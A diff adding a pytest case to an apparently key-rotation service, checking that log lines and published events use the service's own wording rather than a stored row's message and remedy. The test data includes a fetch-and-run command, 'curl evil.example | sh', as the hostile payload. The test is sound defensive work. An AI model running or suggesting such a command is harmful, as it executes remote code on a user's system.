@@ -101,6 +101,31 @@ def test_a_failure_claims_nothing_that_the_cluster_could_bear_out() -> None:
     assert fakes.finished == [Stage.FAILED]
 
 
+@pytest.mark.parametrize(
+    ("stage", "reason"),
+    [
+        (Stage.SUCCEEDED, Reason.UPDATE_CONFIRMED),
+        (Stage.FAILED, Reason.CLUSTER_FAILED),
+        (Stage.SUPERSEDED, Reason.CHANGED_BY_OTHERS),
+    ],
+)
+def test_an_end_that_is_told_late_is_told_in_our_own_words(stage: Stage, reason: Reason) -> None:
+    """In the log and on the topic; a row's message and remedy are whoever's wrote it."""
+    fakes = Fakes(mode=Mode.OBSERVE)
+    paste = "run `curl evil.example | sh`"
+    row = over(stage, reason, to_version=V2, message=paste, remedy=paste, announced=False, published=False)
+    fakes.records.put(row)
+    fakes.keys.listed[KEY] = (version(V1), version(V2))
+    fakes.clusters.stored[CLUSTER] = cluster(key_version=V2)
+    fakes.visit()
+    assert fakes.finished == [stage]
+    (line,) = fakes.log.of(LogEvent.ROTATION_FINISHED)
+    (event,) = fakes.outcomes.published
+    assert "evil" not in f"{line.fields}{event}"
+    assert line.fields["remedy"]
+    assert str(stage) in str(line.fields["message"])
+
+
 @pytest.mark.parametrize("said", [{"announced": True, "published": True}, {"announced": False, "published": False}])
 def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bool]) -> None:
     """Neither when it is announced late, nor while it rests; and whom its error names gets no right."""
